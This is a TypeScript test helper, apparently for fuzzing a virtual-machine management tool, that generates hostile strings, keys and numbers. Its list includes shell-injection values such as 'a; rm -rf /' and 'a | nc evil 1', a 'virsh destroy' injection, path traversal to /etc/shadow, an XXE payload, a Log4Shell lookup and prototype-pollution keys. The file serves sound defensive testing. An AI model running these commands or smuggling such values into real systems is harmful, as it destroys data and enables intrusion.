import { type PlainObject, setKey } from "../../../core/diff/plain";
import { between, chance, type Draw, oneOf } from "./hostile-draw";

/** Texts that some part of a machine would take for more than text. */
const texts = [
  "",
  " ",
  "$(touch /tmp/pwned)",
  "`id`",
  "a; rm -rf /",
  "a && reboot",
  "a | nc evil 1",
  "'\"; virsh destroy vm; '",
  "-oProxyCommand=touch /tmp/pwned",
  "--help",
  "../../../../etc/shadow",
  "/etc/../../x\0.json",
  "a\0b",
  "a\nb",
  "\r\nHost: evil",
  "\u001b[2J\u001b]0;title\u0007",
  "</name><qemu:commandline/>",
  "<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
  "<![CDATA[ ]]>",
  "&amp;&lt;",
  "%s%n%x",
  "$\u007bjndi:ldap://evil/x}",
  "{{7*7}}",
  "0000:17:00.0\n0000:18:00.0",
  "0000:1G:00.0",
  "ＡＢＣ",
  "ünïcödé",
  "😀😀",
  "\u202etxt.exe",
  "\ud800",
  "x\udfffy",
  "\ufeffa",
  "true",
  "null",
  "1e9999",
  "0x10",
  "9".repeat(400),
];

/** A message holds UTF-8, which has no lone surrogates: what arrives is the replacement character. */
const asSent = (text: string): string => Buffer.from(text).toString();

/** A text of a hostile kind. */
export function hostileText(draw: Draw): string {
  const kind = draw(10);
  if (kind < 6) return asSent(oneOf(draw, texts));
  return kind < 8 ? anyText(draw) : oneOf(draw, ["a", "1,", " ", "-", "/a"]).repeat(1000);
}

const names = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty"];
const likePaths = ["[0]", "a.b", 'q"', "\\", '\\"', "a]", "*", "0", "-1"];

/** A key that no program means. */
export function hostileKey(draw: Draw): string {
  const kind = draw(10);
  if (kind < 3) return oneOf(draw, names);
  if (kind < 6) return asSent(oneOf(draw, texts));
  if (kind < 7) return oneOf(draw, likePaths);
  return kind < 9 ? anyText(draw) : "k".repeat(oneOf(draw, [100, 3000]));
}

const numbers = [-1, 0.5, -0.5, 1e-300, 1e308, -1e308, 2 ** 53, -(2 ** 53), 2 ** 31, 2 ** 32, 1e21, 0, 99_999];

export const hostileNumber = (draw: Draw): number =>
  chance(draw, 70) ? oneOf(draw, numbers) : (draw(2 ** 32) - 2 ** 31) / between(draw, 1, 1000);

/** Something of any kind that is not null: null counts as absent. */
export function junk(draw: Draw): unknown {
  const object: PlainObject = {};
  setKey(object, oneOf(draw, ["a", "__proto__", "b c"]), draw(100));
  return oneOf(draw, [oneOf(draw, texts.slice(0, 30)), hostileNumber(draw), true, false, [], {}, [1, 2], object]);
}

/** Characters of all planes, a few of them. */
function anyText(draw: Draw): string {
  const planes = [0x80, 0x800, 0x10000, 0x110000];
  const characters = Array.from({ length: draw(20) }, () => String.fromCodePoint(draw(oneOf(draw, planes))));
  return asSent(characters.join(""));
}

/** Objects within objects, or lists within lists. */
export function nested(levels: number, inList: boolean): unknown {
  let value: unknown = "x";
  for (let level = 0; level < levels; level++) value = inList ? [value] : { a: value };
  return value;
}
